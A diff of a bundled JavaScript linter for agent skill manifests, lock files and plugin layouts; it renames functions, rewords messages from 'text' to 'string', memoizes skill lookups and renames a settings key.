-		const path = module && modulePath(module.name);
+		const path = module && pathInSkill(module.name);
 		if (path && !isPromised(manifest) && !hasFile(skill, path)) yield missing$1(skill, "Module", module.name, path, module.at);
 		if (lacksRecipes(manifest, skill)) return;
 		for (const { glob, at, folder, isPattern, matched } of globsOf(manifest, skill)) {
 			if (!at || isPattern || matched?.length !== 0 || hasLinkTo(skill, folder)) continue;
-			yield missing$1(skill, "Recipe", glob, modulePath(glob) ?? glob, at);
+			yield missing$1(skill, "Recipe", glob, pathInSkill(glob) ?? glob, at);
 		}
 	}
 });
@@ -30445,7 +30670,7 @@ const supported = "2.0";
 const schemaVersionUnsupported = manifestRule("skill-manifest-v2", {
 	id: "schema-version-unsupported",
 	severity: "error",
-	summary: "The `schema_version` of a skill-manifest block is the text `\"2.0\"`.",
+	summary: "The `schema_version` of a skill-manifest block is the string `\"2.0\"`.",
 	why: "Readers choose by it how to read the block, and ignore a block of an unknown version.",
 	source: "Skill Manifest v2, \"Top-Level\"",
 	enforces: [{
@@ -30635,7 +30860,7 @@ const skillIdFormat = manifestRule("skill-toml", {
 		};
 	}
 });
-const expectedForm = ". Write a text such as `tool.kubernetes`";
+const expectedForm = ". Write a string such as `tool.kubernetes`";
 function faultOf$1(id) {
 	return id.trim() === "" ? `\`skill.id\` is blank${expectedForm}` : skillIdFault(id);
 }
@@ -31333,7 +31558,7 @@ const frontmatterSyntax = problemRule({
 	summary: "Every frontmatter is a YAML mapping.",
 	why: "Agents skip a skill if they cannot parse its frontmatter, most of them without an error.",
 	source: "Agent Skills specification: \"The `SKILL.md` file must contain YAML frontmatter followed by Markdown content.\"",
-	howToFix: "Correct the line of the finding. `skillaccord fix` puts a text with an unquoted `: ` in quotation marks.",
+	howToFix: "Correct the line of the finding. `skillaccord fix` puts a string with an unquoted `: ` in quotation marks.",
 	invalid: oneSkill("name: pdf\ndescription: Fills forms: PDF, AcroForm and XFA."),
 	valid: oneSkill("name: pdf\ndescription: \"Fills forms: PDF, AcroForm and XFA.\"")
 });
@@ -31927,7 +32152,7 @@ name = "release"
 	valid: withToml("")
 });
 // src/rules/examples/index-file.ts
-function indexOf$1(fields, folder = "skills") {
+function indexExample(fields, folder = "skills") {
 	const index = {
 		schema_version: "2.0",
 		generated_at: "2026-03-21T18:28:12.266Z",
@@ -31955,8 +32180,8 @@ const skillsIndexSyntax = problemRule({
 	why: "Agents that look up skills in it find none, and the index is not compared with the skills.",
 	source: "Skill Manifest v2: `capabilities` are \"Used by the skills index\".",
 	howToFix: "Run the script that wrote it, `skill-system-router/scripts/build-index.sh` (or `.ps1`), again, and commit the result.",
-	invalid: withFields({}) + indexOf$1({}).replace("\"skills\": {", "\"skills\": {,"),
-	valid: withFields({}) + indexOf$1({})
+	invalid: withFields({}) + indexExample({}).replace("\"skills\": {", "\"skills\": {,"),
+	valid: withFields({}) + indexExample({})
 });
 // src/rules/problem/tag-version.ts
 const skill = `---
@@ -31991,7 +32216,7 @@ const tomlSyntax = problemRule({
 	severity: "error",
 	summary: "Every skill.toml is a TOML document, 1.0 or 1.1.",
 	why: "Caro cannot parse the file and does not load the skill.",
-	howToFix: "Correct the TOML at the place of the finding: texts are in quotation marks, `true` and `false` in lower case.",
+	howToFix: "Correct the TOML at the place of the finding: strings are in quotation marks, `true` and `false` in lower case.",
 	source: "skill.toml contract: \"All skills MUST include a valid manifest.\"",
 	enforces: [{
 		document: "skill.toml contract",
@@ -32016,7 +32241,7 @@ const vendoredSkillUpdated = problemRule({
 });
 // src/contract/compare/call-parameters.ts
 const parametersCache = new WeakMap();
-function parametersOf(skill, operation) {
+function callInputsOf(skill, operation) {
 	const cachedBySkill = parametersCache.get(skill) ?? new Map();
 	parametersCache.set(skill, cachedBySkill);
 	const knownOperation = operation !== null && operationsOf(skill).has(operation) ? operation : null;
@@ -32077,7 +32302,7 @@ const bindingInputMissing = referenceRule({
 	invalid: stepWith("skill: worklog\ninputs:\n  topic: ci\n  entries: 3") + usedSkill(),
 	valid: stepWith("skill: worklog\ninputs:\n  session_date: \"{{today}}\"\n  topic: ci\n  entries: 3") + usedSkill(),
 	*check({ reference: { id, operation, bindings }, skill }) {
-		const parameters = skill && bindings && parametersOf(skill, operation?.value ?? null);
+		const parameters = skill && bindings && callInputsOf(skill, operation?.value ?? null);
 		if (!parameters) return;
 		let reported = 0;
 		for (const name of parameters.required) {
@@ -32102,7 +32327,7 @@ const bindingInputUnknown = referenceRule({
 	invalid: stepWith("skill: worklog\ninputs:\n  session_date: \"{{today}}\"\n  topics: ci\n  entries: 3") + usedSkill(),
 	valid: stepWith("skill: worklog\ninputs:\n  session_date: \"{{today}}\"\n  topic: ci\n  entries: 3") + usedSkill(),
 	*check({ reference: { id, operation, bindings }, skill }) {
-		const parameters = skill && bindings && parametersOf(skill, operation?.value ?? null);
+		const parameters = skill && bindings && callInputsOf(skill, operation?.value ?? null);
 		if (!parameters) return;
 		const names = [...parameters.inputs.keys()];
 		for (const { key, keyAt } of bindings.fields.values()) {
@@ -32155,7 +32380,7 @@ const bindingOptionalUnmapped = referenceRule({
 	invalid: stepWith("skill: worklog\ninputs:\n  session_date: \"{{today}}\"\n  topic: ci") + usedSkill(),
 	valid: stepWith("skill: worklog\ninputs:\n  session_date: \"{{today}}\"\n  topic: ci\n  entries: 3") + usedSkill(),
 	*check({ reference: { id, operation, bindings }, skill }) {
-		const parameters = skill && bindings && parametersOf(skill, operation?.value ?? null);
+		const parameters = skill && bindings && callInputsOf(skill, operation?.value ?? null);
 		if (!parameters) return;
 		const isOptional$1 = (name) => isOptional(parameters.inputs.get(name) ?? null);
 		const count = parameters.optional.length - [...bindings.fields.keys()].filter(isOptional$1).length;
@@ -32252,13 +32477,13 @@ const bindingValueInvalid = referenceRule({
 	severity: "error",
 	summary: "Literal values in a proto match the schemas of their inputs.",
 	why: "The skill refuses the value, or behaves in an unintended way.",
-	howToFix: "Write a value that the schema of the input accepts. To pass a number or a template such as `{{today}}` as text, put it in quotation marks.",
+	howToFix: "Write a value that the schema of the input accepts. To pass a number or a template such as `{{today}}` as a string, put it in quotation marks.",
 	source: "ADR-002, \"Validation Rules\", step 4: \"Validate input schemas using JSON Schema\".",
 	enforces: [adr002("Validate input schemas using JSON Schema", "inputs.*.[].schema")],
 	invalid: stepWithEntries("ten"),
 	valid: stepWithEntries("10"),
 	*check({ reference: { id, operation, bindings }, skill }) {
-		const parameters = skill && bindings && parametersOf(skill, operation?.value ?? null);
+		const parameters = skill && bindings && callInputsOf(skill, operation?.value ?? null);
 		if (!parameters) return;
 		for (const { key, value } of bindings.fields.values()) {
 			const input = parameters.inputs.get(key);
@@ -32286,7 +32511,7 @@ function formatSource(value) {
 	return value.kind === "number" || value.kind === "other" ? code$1(value.source) : formatJson(toJson(value));
 }
 function hint({ schema, value }) {
-	const quotesHint = " Put it in quotes to pass a text.";
+	const quotesHint = " Put it in quotes to pass a string.";
 	if (value.kind === "number" || value.kind === "boolean" || value.kind === "other") return accepts(schema, value.source.trim()) === true ? quotesHint : "";
 	const [single, second] = value.kind === "table" ? [...value.fields.values()] : [];
 	return single && !second && single.value.kind === "null" && /^\{.*\}$/s.test(single.key) ? " Put the template in quotes: YAML reads it as a mapping." : "";
@@ -33345,7 +33570,7 @@ function foldersOfVariable(name, unit, workspace) {
 		case "CLAUDE_SKILL_DIR": return kind === "skill" ? [root] : [];
 		case "CLAUDE_PLUGIN_ROOT":
 		case "PLUGIN_ROOT":
-		case "extensionPath": return kind === "plugin" ? [root] : pluginsAround(root, workspace);
+		case "extensionPath": return kind === "plugin" ? [root] : enclosingPlugins(root, workspace);
 		default: return [];
 	}
 }
@@ -33367,7 +33592,7 @@ function projectOf({ kind, root }) {
 	if (kind === "repository") return root;
 	return root.slice(0, root.search(/(?:^|\/)\.(?:claude|cursor|codex|github)\//));
 }
-function pluginsAround(root, { plugins }) {
+function enclosingPlugins(root, { plugins }) {
 	return plugins.all.filter((plugin) => isAtOrInside(root, plugin.root)).map(({ root: at }) => at);
 }
 // src/rules/repository/hook-script-missing.ts
@@ -33430,34 +33655,27 @@ function digestKey(path, algorithm) {
 	return algorithm.startsWith("apm-") ? path : `${path}\0${algorithm}`;
 }
 // src/locks/targets.ts
-function createSkillLookup(workspace) {
-	const { skills, pinned, paths } = workspace;
-	let byName;
-	let byInstallLocation;
-	let byRoot;
-	let folders;
+const skillsByName = memoize((skills) => groupBy(skills, ({ name }) => name));
+const skillsByInstallLocation = memoize((skills) => groupBy(skills, ({ root }) => {
+	const location = installLocation(root);
+	return location ? installKey(location.home, location.folder) : "";
+}));
+const skillsByRoot = memoize((skills) => new Map(skills.map((skill) => [skill.root, skill])));
+const foldersOf$1 = memoize((paths) => new Set([...paths].map(folderOf)));
+function createSkillLookup({ skills, pinned, paths }) {
 	return {
 		get byName() {
-			byName ??= groupBy(skills, ({ name }) => name);
-			return byName;
+			return skillsByName(skills);
 		},
 		get byInstallLocation() {
-			byInstallLocation ??= groupBy(skills, ({ root }) => {
-				const location = installLocation(root);
-				return location ? installKey(location.home, location.folder) : "";
-			});
-			return byInstallLocation;
+			return skillsByInstallLocation(skills);
 		},
 		get byRoot() {
-			byRoot ??= new Map(skills.map((skill) => [skill.root, skill]));
-			return byRoot;
+			return skillsByRoot(skills);
 		},
 		pinned,
 		paths,
-		folders: () => {
-			folders ??= new Set([...paths].map(folderOf));
-			return folders;
-		}
+		folders: () => foldersOf$1(paths)
 	};
 }
 function installKey(home, folder) {
@@ -33705,10 +33923,8 @@ function mayBeInstalledElsewhere(lock) {
 	return lockFormatOf(lock).writer !== null;
 }
 function presenceTest(head, base) {
-	const names = new Set(head.skills.map(({ name }) => name));
-	const roots = new Set(head.skills.map(({ root }) => root));
-	const baseLookup = createSkillLookup(base);
-	return (lock, entry) => lockFormatOf(lock).lookupBy === "name" && names.has(entry.id) || lockedTargets(lock, entry, baseLookup).some(({ skill, pins }) => skill ? roots.has(skill.root) : pins.some(({ file }) => file !== void 0 && head.paths.has(file)));
+	const [headLookup, baseLookup] = [createSkillLookup(head), createSkillLookup(base)];
+	return (lock, entry) => lockFormatOf(lock).lookupBy === "name" && headLookup.byName.has(entry.id) || lockedTargets(lock, entry, baseLookup).some(({ skill, pins }) => skill ? headLookup.byRoot.has(skill.root) : pins.some(({ file }) => file !== void 0 && head.paths.has(file)));
 }
 function skillCount({ entries }) {
 	return entries.length === 1 ? "1 skill" : `${entries.length} skills`;
@@ -34283,7 +34499,7 @@ const marketplacePathMissing = repositoryRule({
 		for (const list of pathLists(workspace)) {
 			const [first] = list.bad;
 			if (first && list.count > 1 && isWhollyMissing(list)) yield summaryDraft(list, first);
-			else for (const bad of list.bad) yield draftOf$3(bad, list);
+			else for (const bad of list.bad) yield draftOf$2(bad, list);
 		}
 	}
 });
@@ -34305,7 +34521,7 @@ const listConsequences = {
 	"codex-source": ["sources of plugins", "Codex lists none of these plugins"],
 	skill: ["paths of skills", "Claude Code loads none of these skills"]
 };
-function draftOf$3(bad, { owner, kind }) {
+function draftOf$2(bad, { owner, kind }) {
 	const { subject, written, at, fault, isMild, suggestion } = bad;
 	const consequence = isMild ? "Nothing is loaded from there." : consequences$1[kind];
 	const advice = suggestion && (suggestion.isCertain ? `Write ${quote(suggestion.written)}.` : `Did you mean ${quote(suggestion.written)}?`);
@@ -34385,9 +34601,9 @@ const noSkillsFound = repositoryRule({
 	valid: oneSkill("name: pdf\ndescription: Fills PDF forms.")
 });
 function ending({ paths, links }, causes) {
-	const isLink = new Set(links.map(({ path }) => path));
-	const isManifest = (path) => /^(?:SKILL\.md|skill\.toml)$/.test(nameOf$3(path));
-	if ([...paths].some((path) => isManifest(path) && !isLink.has(path))) return "; every SKILL.md and skill.toml is on an ignored path.";
+	const linkPaths = new Set(links.map(({ path }) => path));
+	const hasManifestName = (path) => /^(?:SKILL\.md|skill\.toml)$/.test(nameOf$3(path));
+	if ([...paths].some((path) => hasManifestName(path) && !linkPaths.has(path))) return "; every SKILL.md and skill.toml is on an ignored path.";
 	return causes.length > 0 ? "." : "; no directory has a SKILL.md or a skill.toml.";
 }
 function submoduleCause({ submodules }) {
@@ -34744,11 +34960,11 @@ const pluginVersionsDisagree = repositoryRule({
 		for (const plugin of workspace.plugins.all) {
 			const [first, ...others] = plugin.versions;
 			const different = first ? others.filter(({ value }) => value !== first.value) : [];
-			if (first && different.length > 0) yield draftOf$2(plugin, first, different);
+			if (first && different.length > 0) yield draftOf$1(plugin, first, different);
 		}
 	}
 });
-function draftOf$2(plugin, first, different) {
+function draftOf$1(plugin, first, different) {
 	const places = [...groupBy(different, ({ at }) => at.path)].map(([path, [version]]) => `${code$1(version?.value ?? "")} in ${code$1(path)}`);
 	const message = `Plugin ${quote(plugin.name)} has version ${code$1(first.value)} in ${code$1(first.at.path)}, but ${joinFirst(places, 4)}. ${consequence(first)}`;
 	const values = different.map(({ kind, value }) => `${kind} ${value}`);
@@ -35041,7 +35257,7 @@ function differences(skill, other) {
 }
 // src/rules/support/limit-drafts.ts
 function* limitDrafts(all, maxDrafts, summary) {
-	for (const [name, group] of groupBy(all, (crowding) => crowding.group)) {
+	for (const [name, group] of groupBy(all, (grouped) => grouped.group)) {
 		const [first] = group;
 		if (!first) continue;
 		if (group.length <= maxDrafts) yield* group.map(({ draft }) => draft);
@@ -35155,6 +35371,7 @@ function targetClause({ target }, destination) {
 	}
 }
 function linksInSkills(workspace) {
+	if (workspace.links.length === 0) return [];
 	const places = skillPlacesOf(workspace);
 	const bySkill = new Map();
 	for (const link of workspace.links) {
@@ -35370,11 +35587,11 @@ const skillsIndexStale = repositoryRule({
 	why: "Agents choose a skill and an operation from the index alone. They never call missing ones, and calls of outdated ones fail. Agents that install a skill refuse content with another digest.",
 	source: "Skill Manifest v2: `capabilities` are \"Used by the skills index\".",
 	howToFix: "Run the script that wrote the index again, such as `skill-system-router/scripts/build-index.sh`, and commit the result. `skillaccord fix` writes digests and the names of renamed skills.",
-	invalid: withFields({}) + indexOf$1({
+	invalid: withFields({}) + indexExample({
 		version: "0.9.0",
 		operations: {}
 	}),
-	valid: withFields({}) + indexOf$1({}),
+	valid: withFields({}) + indexExample({}),
 	*check(subject) {
 		const { workspace } = subject;
 		for (const index of workspace.listings.indexes) if (index.problems.length === 0) yield* staleIn(index, workspace);
@@ -35460,6 +35677,7 @@ const submoduleInside = repositoryRule({
 	invalid: `${pdf}-- skills/pdf/lib (submodule) --\n${"5".repeat(40)}\n`,
 	valid: `${pdf}-- vendor/lib (submodule) --\n${"5".repeat(40)}\n`,
 	*check({ workspace, base }) {
+		if (workspace.submodules.length === 0) return;
 		const places = skillPlacesOf(workspace);
 		const found = [];
 		for (const submodule of workspace.submodules) {
@@ -35700,7 +35918,7 @@ function valueFacet(value) {
 		at: value.at
 	};
 }
-function jsonFacet(value) {
+function verbatimFacet(value) {
 	return value && {
 		shape: {
 			type: "json",
@@ -35841,7 +36059,7 @@ function inputFacets(input) {
 		["schema", schemaFacet(input)],
 		["description", textFacet(ownDescription ?? schemaDescription)],
 		["schema.default", defaultFacet(schemaDefault)],
-		["schema.description", ownDescription && jsonFacet(schemaDescription)],
+		["schema.description", ownDescription && verbatimFacet(schemaDescription)],
 		...fields$1(input.value).filter(({ key }) => !inputKeys.includes(key)).map(unknownFacet)
 	];
 }
@@ -35868,7 +36086,7 @@ function schemaFacet(input) {
 	};
 }
 function unknownFacet({ key, value }) {
-	return [key === "required" ? "entry.required" : key, jsonFacet(value)];
+	return [key === "required" ? "entry.required" : key, verbatimFacet(value)];
 }
 // src/dialects/manifest-v1/outputs.ts
 function outputItems(root) {
@@ -35927,7 +36145,7 @@ function artifactItems(root) {
 			pointer: formatPointer("outputs", "artifacts", index),
 			value
 		};
-	})).map(({ name, pointer, at, value }) => item$1("artifact", name, pointer, at, [["value", jsonFacet(value)]]));
+	})).map(({ name, pointer, at, value }) => item$1("artifact", name, pointer, at, [["value", verbatimFacet(value)]]));
 }
 function nameOf(artifact) {
 	if (artifact.kind === "string") return artifact;
@@ -36075,7 +36293,7 @@ function malformedExecution(root) {
 	return [fieldItem$1("execution", "/execution", execution)];
 }
 function fieldItem$1(name, at, { keyAt, value }) {
-	return item$1("field", name, at, keyAt, [["value", jsonFacet(value)]]);
+	return item$1("field", name, at, keyAt, [["value", verbatimFacet(value)]]);
 }
 // src/dialects/manifest-v1/manifest-v1.ts
 const manifestV1 = {
@@ -36136,7 +36354,7 @@ var ItemCollector = class {
 		});
 	}
 	addField(path, { keyAt, value }) {
-		this.add("field", "", path.join("."), path, keyAt, new Map([["value", jsonFacet(value)]]));
+		this.add("field", "", path.join("."), path, keyAt, new Map([["value", verbatimFacet(value)]]));
 	}
 	fieldsOf(table, key, path = []) {
 		const field = table?.kind === "table" ? table.fields.get(key) : void 0;
@@ -36164,7 +36382,7 @@ var ItemCollector = class {
 	}
 	addEntrypoints(owner, entrypoints, path) {
 		for (const { key, keyAt, value } of entrypoints) {
-			const facets = new Map([["argv", jsonFacet(value)]]);
+			const facets = new Map([["argv", verbatimFacet(value)]]);
 			this.add("entrypoint", owner, key, [...path, key], keyAt, facets);
 		}
 	}
@@ -36200,7 +36418,7 @@ function manifestLocation(root) {
 }
 function unknownFacets(tableFields, known) {
 	const unknown = tableFields.filter(({ key }) => !known.includes(key));
-	return new Map(unknown.map(({ key, value }) => [key, jsonFacet(value)]));
+	return new Map(unknown.map(({ key, value }) => [key, verbatimFacet(value)]));
 }
 // src/dialects/skill-manifest-v2/power-nodes.ts
 const effectNodes = { effects: {
@@ -36214,8 +36432,8 @@ const effectNodes = { effects: {
 	]
 } };
 // src/dialects/skill-manifest-v2/read-block.ts
-function readBlock(dialect, name, carrier) {
-	const { path, skillMd } = carrier;
+function readBlock(dialect, name, file) {
+	const { path, skillMd } = file;
 	const [block, ...repeatedBlocks] = skillMd?.blocks.filter((candidate) => candidate.name === name) ?? [];
 	if (!block || !skillMd) return null;
 	const repetitions = repeatedBlocks.map((candidate) => repeatedBlock(candidate, block));
@@ -36531,7 +36749,7 @@ function entrypointFault(field) {
 	const describePart = (part) => `${code$1(part)} of entrypoint ${code$1(key)}`;
 	const { declared: declaredFields, commands } = flatEntrypoint(value);
 	for (const [part, { value: partValue }] of declaredFields) {
-		const expected = part === "description" ? "a text" : "a mapping";
+		const expected = part === "description" ? "a string" : "a mapping";
 		if (!(part === "description" ? text$1(partValue) !== void 0 : partValue.kind === "table")) return `${describePart(part)} is ${formatValue(partValue)}, not ${expected}`;
 	}
 	const invalidCommand = commands.find((command) => !isCommand(command));
@@ -36567,11 +36785,11 @@ const routerManifest = {
 	part: "router-manifest",
 	nameField: "id",
 	powers: effectNodes,
-	claim(carrier) {
-		const claim = readBlock(id$1, "router-manifest", carrier);
+	claim(file) {
+		const claim = readBlock(id$1, "router-manifest", file);
 		if (!claim?.manifest) return claim;
 		const isSound = !claim.problems.some(({ rule }) => rule === "block-syntax");
-		const problem = legacyProblem(carrier, claim.manifest.root, isSound);
+		const problem = legacyProblem(file, claim.manifest.root, isSound);
 		return {
 			...claim,
 			problems: [...claim.problems, problem]
@@ -36596,7 +36814,7 @@ const routerManifest = {
 	}
 };
 function facetOf([key, { value }]) {
-	return [key, textFacet(value) ?? jsonFacet(value)];
+	return [key, textFacet(value) ?? verbatimFacet(value)];
 }
 const formatKey = "schema_version";
 function formatOf(root) {
@@ -36667,7 +36885,7 @@ const types$1 = [
 ];
 function typeFacet(type) {
 	const name = text$1(type) ?? "";
-	if (name !== "json" && !types$1.includes(name)) return ["type", jsonFacet(type)];
+	if (name !== "json" && !types$1.includes(name)) return ["type", verbatimFacet(type)];
 	return ["schema", {
 		shape: {
 			type: "schema",
@@ -36687,7 +36905,7 @@ function addResult(collector, owner, operation, path) {
 	facets.set("fields", flagFacet$1(fieldsField !== void 0, fieldsField?.keyAt ?? output.keyAt));
 	collector.add("result", owner, "", outputPath, output.keyAt, facets);
 	for (const field of collector.fieldsOf(output.value, "fields", outputPath)) {
-		const facet = new Map([["value", jsonFacet(field.value)]]);
+		const facet = new Map([["value", verbatimFacet(field.value)]]);
 		collector.add("result-field", owner, field.key, [
 			...outputPath,
 			"fields",
@@ -36731,7 +36949,7 @@ const skillManifestV2 = {
 	part: "skill-manifest",
 	nameField: "id",
 	powers: effectNodes,
-	claim: (carrier) => readBlock(id, "skill-manifest", carrier),
+	claim: (file) => readBlock(id, "skill-manifest", file),
 	extract({ root }) {
 		const collector = new ItemCollector(id);
 		const format = root.fields.get("schema_version");
@@ -36841,7 +37059,7 @@ function aboutItems(root) {
 			"documentation"
 		].flatMap((key) => {
 			const entry = lookup$1(root, "skill", key);
-			return entry.value ? [item("metadata", key, entry, { value: jsonFacet(entry.value) })] : [];
+			return entry.value ? [item("metadata", key, entry, { value: verbatimFacet(entry.value) })] : [];
 		}),
 		...itemsForTexts("keyword", lookup$1(root, "skill", "keywords")),
 		...hostItems(root)
@@ -37041,7 +37259,7 @@ function parameterFacets({ isRequired, at, value }) {
 	const defaultValue = get(value, "default");
 	const facets = [
 		["required", flagFacet$1(isRequired, at)],
-		["type", jsonFacet(type) ?? textOf$1("string", at)],
+		["type", verbatimFacet(type) ?? textOf$1("string", at)],
 		["default", defaultValue && valueFacet(defaultValue)],
 		["description", textFacet(get(value, "description"))],
 		["sensitive", flagFacet$1(isMarkedSensitive(value), at)]
@@ -37089,7 +37307,7 @@ function moduleItems(root, { modules }) {
 	const listed = itemsForTexts("export", lookup$1(root, "executable", "exports"));
 	const path = text$1(entry.value);
 	if (path === void 0) return listed;
-	const module = modules?.get(modulePath(path) ?? "");
+	const module = modules?.get(pathInSkill(path) ?? "");
 	const names = new Set(listed.map(({ name }) => name));
 	const functions = module?.type === "module" ? [...module.exports] : [];
 	const location = {
@@ -37524,8 +37742,8 @@ function doubt(path, value, clause, limitedBy) {
 }
 const expectedShapes = {
 	flag: "true or false",
-	names: "a list of texts",
-	tools: "a text or a list of texts",
+	names: "a list of strings",
+	tools: "a string or a list of strings",
 	table: "a mapping",
 	selector: "a value"
 };
@@ -38010,7 +38228,7 @@ function typeFault(value, dialect) {
 	const field = dialect === "skill-toml" ? "skill.version" : "version";
 	const what = source(value) === "" ? "blank" : formatValue(value);
 	const written = source(value) ?? "";
-	return `\`${field}\` is ${what}. Write a text such as \`"${/^[\d.]+$/.test(written) && suggestSemantic(written) || "1.0.0"}"\`.`;
+	return `\`${field}\` is ${what}. Write a string such as \`"${/^[\d.]+$/.test(written) && suggestSemantic(written) || "1.0.0"}"\`.`;
 }
 function formFault(text, strict) {
 	const what = `Version ${code$1(text)}`;
@@ -38755,18 +38973,17 @@ function analyseAll({ head, base }, { drafts: knownDrafts } = nothingKnown) {
 			drafts
 		} : analyse(skill);
 	};
-	for (const skill of head.skills) analysisOf.set(skill, analyseOnce(skill));
+	for (const skill of readSkills(head)) analysisOf.set(skill, analyseOnce(skill));
 	const known = (skill) => analysisOf.get(skill) ?? analyseOnce(skill);
 	return {
 		head: [...analysisOf.values()],
-		base: (base?.skills ?? []).map(known)
+		base: readSkills(base).map(known)
 	};
 }
+function readSkills(workspace) {
+	return workspace?.skills.filter(({ isUnread }) => !isUnread) ?? [];
+}
 function analyse(skill) {
-	if (skill.isUnread) return {
-		skill,
-		drafts: []
-	};
 	const source = sourceOf(skill);
 	return {
 		skill,
@@ -39434,7 +39651,7 @@ function changeDrafts({ pair, changes }, declared, config) {
 	return changes.map((change) => ({
 		...gradeChange(change, pair, declared, config),
 		rule: change.rule,
-		draft: draftOf$1(change, pairSecrets),
+		draft: draftOf(change, pairSecrets),
 		source
 	}));
 }
@@ -39455,7 +39672,7 @@ function gradeSeverity({ bump, warn }, pair, declared, config) {
 	if (bump === "major") return declared === null ? breakingSeverity(pair, config) : "error";
 	return warn ? "warning" : "note";
 }
-function draftOf$1({ change, rule }, { names }) {
+function draftOf({ change, rule }, { names }) {
 	const { at, was, from, to, kind, facet, detail } = change;
 	const item = change.before ?? change.after;
 	return {
@@ -39498,7 +39715,7 @@ async function unreleasedFingerprints({ trees: { pairs }, sides: { findRelease }
 	const others = findRelease && pairs.length > 0 && !isComplete ? await unreleasedOf$1(pairs, findRelease, settings) : [];
 	return new Set([...judged, ...others].map(({ fingerprint }) => fingerprint));
 }
-async function unreleasedOf$1(pairs, findRelease, { config, findings }) {
+async function unreleasedOf$1(pairs, findRelease, { config, findingSettings }) {
 	const { changesSinceRelease, findReleasedSkills } = await import("./compare.js");
 	const unchangedPairs = pairs.filter(({ status }) => status === "unchanged");
 	const { byRoot } = await findReleasedSkills(unchangedPairs, findRelease, config);
@@ -39506,7 +39723,7 @@ async function unreleasedOf$1(pairs, findRelease, { config, findings }) {
 		const release = byRoot.get(pair.after?.root ?? "");
 		const released = release && changesSinceRelease(pair, release);
 		if (!released) return [];
-		return toFindings(changeDrafts(released, declaredBumpOf(released.pair), config), findings);
+		return toFindings(changeDrafts(released, declaredBumpOf(released.pair), config), findingSettings);
 	});
 }
 // src/pipeline/gate.ts
@@ -39526,7 +39743,7 @@ async function judgeGate(run, settings) {
 	].flatMap((problem) => findingsOf(problem, settings));
 }
 function findingsOf(problem, settings) {
-	const findings = toFindings([problemDraft(problem, repositorySource)], settings.findings);
+	const findings = toFindings([problemDraft(problem, repositorySource)], settings.findingSettings);
 	if (!problem.existsAtBase) return findings;
 	return findings.map((finding) => ({
 		...finding,
@@ -39807,7 +40024,8 @@ function vendoredSkills(workspace) {
 		for (const entry of lock.entries) for (const [root, vendoring] of vendoredBy(lock, entry, lookup)) if (!byRoot.has(root)) byRoot.set(root, vendoring);
 	}
 	for (const skill of workspace.skills) {
-		const vendoring = byRoot.has(skill.root) ? null : originInFrontmatter(skill);
+		if (skill.isUnread || byRoot.has(skill.root)) continue;
+		const vendoring = originInFrontmatter(skill);
 		if (vendoring) byRoot.set(skill.root, vendoring);
 	}
 	return ({ root }) => {
@@ -39946,7 +40164,7 @@ function isMissingBump({ rule, state }) {
 function judgeAll({ comparisons }, settings, facts) {
 	const context = {
 		config: settings.config,
-		findings: settings.findings,
+		findingSettings: settings.findingSettings,
 		...facts
 	};
 	return Array.from(comparisons, (comparison) => judge(comparison, context));
@@ -39957,7 +40175,7 @@ const noBump = {
 };
 function judge(comparison, settings) {
 	const { pair, changes, drafts } = comparison;
-	const findings = toFindings(drafts, settings.findings);
+	const findings = toFindings(drafts, settings.findingSettings);
 	const unjudged = {
 		pair,
 		findings,
@@ -39995,7 +40213,7 @@ function judge(comparison, settings) {
 		findings: [...judgement.findings, ...findings]
 	};
 }
-function judgeVendored({ pair, changes }, vendored, { config, findings: settings }) {
+function judgeVendored({ pair, changes }, vendored, { config, findingSettings }) {
 	const judgement = {
 		pair,
 		declared: declaredBumpOf(pair),
@@ -40020,10 +40238,10 @@ function judgeVendored({ pair, changes }, vendored, { config, findings: settings
 	return {
 		...judgement,
 		...none,
-		findings: toFindings(all, settings)
+		findings: toFindings(all, findingSettings)
 	};
 }
-function judgeChanges({ pair, changes, sinceRelease, powerDrafts }, { config, findings: settings, pinsOf, retirementOf }) {
+function judgeChanges({ pair, changes, sinceRelease, powerDrafts }, { config, findingSettings, pinsOf, retirementOf }) {
 	const isDecreased = declaredBumpOf(pair) === "decreased";
 	const bumpPair = isDecreased ? pair : sinceRelease?.pair ?? pair;
 	const declared = declaredBumpOf(bumpPair);
@@ -40032,9 +40250,9 @@ function judgeChanges({ pair, changes, sinceRelease, powerDrafts }, { config, fi
 	const findings = toFindings(draftsOf({
 		pair,
 		changes
-	}), settings);
-	const unreleased = sinceRelease ? toFindings(draftsOf(sinceRelease), settings) : [];
-	const gained = toFindings(pair.before && pair.after ? powerDrafts : [], settings);
+	}), findingSettings);
+	const unreleased = sinceRelease ? toFindings(draftsOf(sinceRelease), findingSettings) : [];
+	const gained = toFindings(pair.before && pair.after ? powerDrafts : [], findingSettings);
 	const [accepted, open] = splitAccepted([...sinceRelease ? unreleased : findings, ...gained], retirement);
 	const required = bumpOf$2(open);
 	const [, openSinceBase] = splitAccepted([...findings, ...gained], retirement);
@@ -40045,7 +40263,7 @@ function judgeChanges({ pair, changes, sinceRelease, powerDrafts }, { config, fi
 		accepted,
 		tag: isDecreased ? null : sinceRelease?.tag ?? null,
 		pins: pinsOf(bumpPair)
-	}, config), settings);
+	}, config), findingSettings);
 	const satisfied = isSatisfied(sinceRelease?.pair ?? pair, declared, required);
 	return {
 		pair,
@@ -40814,8 +41032,30 @@ function memoryTree(files) {
 function isMemoryFile(file) {
 	return typeof file === "object" && "kind" in file;
 }
+// src/pipeline/load/reuse.ts
+function reuseSkills(tree, discovered, submodules, loadedSkills) {
+	const loadedByRoot = groupBy(loadedSkills.filter(({ isUnread }) => !isUnread), ({ root }) => root);
+	const reused = [];
+	const changed = [];
+	for (const found of discovered) {
+		const same = loadedByRoot.get(found.root)?.find((loaded) => hasSameFiles(tree, found.files, loaded) && areSameSubmodules(loaded.submodules ?? [], submodules.get(found.root) ?? []));
+		if (same) reused.push(same);
+		else changed.push(found);
+	}
+	return {
+		reused,
+		changed
+	};
+}
+function hasSameFiles(tree, files, skill) {
+	if (files.length !== skill.files.length) return false;
+	return skill.files.every(({ path, kind, id }, index) => {
+		const file = files[index];
+		return file?.path === path && file.kind === kind && id !== void 0 && id === tree.id(path);
+	});
+}
 // src/locks/files.ts
-async function locksIn(tree, paths, texts, parsedLocks = []) {
+async function locksIn(tree, paths, texts, { parsedLocks = [], focus } = {}) {
 	const parsedByPath = new Map(parsedLocks.map((lock) => [lock.path, lock]));
 	const locks = [];
 	const lockProblems = [];
@@ -40827,7 +41067,7 @@ async function locksIn(tree, paths, texts, parsedLocks = []) {
 			locks.push(parsed);
 			continue;
 		}
-		const lock = text === null ? null : parseLock(path, text);
